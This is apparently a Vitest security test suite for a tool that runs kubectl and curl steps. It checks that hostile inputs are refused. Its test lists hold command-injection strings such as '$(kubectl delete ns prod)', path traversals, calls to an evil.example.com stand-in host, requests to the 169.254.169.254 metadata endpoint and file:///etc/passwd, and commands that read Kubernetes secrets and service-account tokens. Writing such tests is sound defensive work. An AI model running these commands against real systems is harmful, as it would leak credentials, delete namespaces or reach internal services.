import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createHttpTargets } from '../../src/web-targets/http-targets.ts';
import { createStepWorld, stepSource } from './step-world.ts';
import type { StepWorld } from './step-world.ts';

const area = 'video-processing';
const canary = 'c2ltdWxhdGVkLW5vdC1hLXNlY3JldA==';
const plainCanary = Buffer.from(canary, 'base64').toString('utf8');

let world: StepWorld;
beforeAll(async () => {
  const resolve = async (host: string) => (host === 'rebound.example.com' ? ['169.254.169.254'] : ['10.9.9.9']);
  world = await createStepWorld({ http: createHttpTargets({ allowedHosts: ['rebound.example.com'], resolve }) });
});
beforeEach(() => world.reset());
afterAll(() => world.close());

describe('values of parameters', () => {
  const hostile = [
    '--server=http://evil',
    '-oyaml',
    '--all',
    'a b',
    'a\nkubectl delete ns prod',
    '$(kubectl delete ns prod)',
    '`id`',
    "a';id;'",
    'a"b',
    '../../secrets/x',
    '..',
    'a/../b',
    'a%2fb',
    'ａ',
    'a\u0000',
    '',
    '*',
    '~',
  ];
  it.each(hostile)('%j is refused before anything is asked', async (value) => {
    const before = world.cluster.requests().length;
    for (const text of [`kubectl get pod <pod> -n ${area}`, `kubectl logs $POD -n ${area}`]) {
      const report = await world.run(text, { pod: value, POD: value });
      expect(report).toMatchObject({ state: 'failed', finding: expect.stringMatching(/pod/i) });
    }
    expect(world.cluster.requests().slice(before)).toEqual([]);
  });

  it.each(['x"}) or vector(1) #', 'x\\', '{', 'a\nb'])('%j stays a string in a query', async (value) => {
    const report = await world.run({ ...stepSource('sum(video_processing_queue_depth{pod="<pod>"})', { pod: value }), language: 'promql' });
    expect(report.answers.flatMap(({ series }) => series)).toEqual([]);
  });
});

describe('commands', () => {
  const refused: readonly [string, RegExp][] = [
    ['kubectl get pods --server=http://evil.example.com', /server/],
    ['kubectl get pods --token=abc', /token/],
    ['kubectl get pods --as=system:admin', /as/],
    ['kubectl get pods --kubeconfig=/etc/passwd', /kubeconfig/],
    [`kubectl get pod ../../../api/v1/secrets -n ${area}`, /./],
    [`kubectl get --raw /api/v1/namespaces/${area}/../../secrets`, /./],
    ['kubectl get pods -n ../kube-system', /./],
    ['cat /etc/passwd', /passwd/],
    ['node -e "process.exit()"', /not found/],
    ['curl http://169.254.169.254/latest/meta-data/', /./],
    ['curl http://[::ffff:169.254.169.254]/', /./],
    ['curl http://0x7f000001:8080/', /./],
    ['curl http://localhost:8080/', /localhost/],
    ['curl file:///etc/passwd', /./],
    ['curl http://rebound.example.com/', /./],
    ['curl -X POST http://evil.example.com/', /./],
    ['kubectl apply -f https://evil.example.com/x.yaml', /file/],
    ['kubectl cp a:/x /y', /./],
  ];
  it.each(refused)('%s ends in a message', async (text, words) => {
    for (const report of [await world.run(text)]) {
      expect(report).toMatchObject({ state: 'failed', finding: expect.stringMatching(words) });
    }
    expect(await world.plan(stepSource(text))).toMatchObject({ type: 'failed' });
    expect(world.sent()).toEqual([]);
  });
});

describe('secrets', () => {
  const exec = (argv: string) => `kubectl exec -n ${area} deployment/nats -- ${argv}`;
  it.each([
    exec('printenv'),
    exec('env'),
    exec('cat /var/run/secrets/kubernetes.io/serviceaccount/token'),
    exec('sh -c "cat /run/secrets/x"'),
  ])('%s neither runs nor is planned', async (text) => {
    expect(await world.run(text)).toMatchObject({ state: 'failed', finding: expect.stringContaining('is not run here') });
    expect(await world.plan(stepSource(text))).toMatchObject({ type: 'failed', reason: expect.stringContaining('is not run here') });
    const mixed = await world.plan(stepSource(`kubectl scale deployment gpu-worker --replicas=4 -n ${area}\n${text}`));
    expect(mixed).toMatchObject({ type: 'failed', reason: expect.stringContaining('is not run here') });
    expect(world.sent()).toEqual([]);
  });

  it.each([
    `kubectl get secret database -n ${area} -o yaml`,
    `kubectl get secret database -n ${area} -o json`,
    `kubectl get secret database -n ${area} -o jsonpath='{.data.password}'`,
    `kubectl get secret database -n ${area} -o jsonpath='{.data.password}' | base64 -d`,
    `kubectl get secret database -n ${area} -o go-template='{{.data.password}}'`,
    `kubectl get secret database -n ${area} -o custom-columns=P:.data.password`,
    `kubectl get secret database -n ${area} -o json | jq -r .data.password | base64 -d`,
    `kubectl describe secret database -n ${area}`,
  ])('%s shows no value', async (text) => {
    const whole = JSON.stringify(await world.run(text));
    expect(whole).not.toContain(canary);
    expect(whole).not.toContain(plainCanary);
  });

  it('masks tokens in what is printed, and in the words of a plan', async () => {
    const token = `ghp_${'a1B2'.repeat(9)}`;
    const printed = await world.run(`echo "url postgres://app:hunter2hunter2@db/x token ${token}"`);
    expect(JSON.stringify(printed)).not.toMatch(/hunter2|ghp_a1B2/);
    const plan = await world.planned(`kubectl annotate deployment gpu-worker -n ${area} api-token=${token}`);
    const { words, differences } = plan.operations[0] ?? {};
    expect(JSON.stringify({ words, differences, facts: plan.facts, output: plan.output })).not.toContain(token);
    const { report, journal } = await world.apply(plan);
    expect(report.state).toBe('applied');
    expect(JSON.stringify(report)).not.toContain(token);
    expect(journal.map(({ message }) => message)).not.toContain(token);
  });
});

describe('output', () => {
  it('is one line of plain text for whoever only reads one line', async () => {
    const report = await world.run(`printf '<!channel> \\033[31mred\\007 <http://x|y>\\n'`);
    expect(report.finding).not.toMatch(/\p{Cc}/u);
    expect(report.state).toBe('done');
  });
});
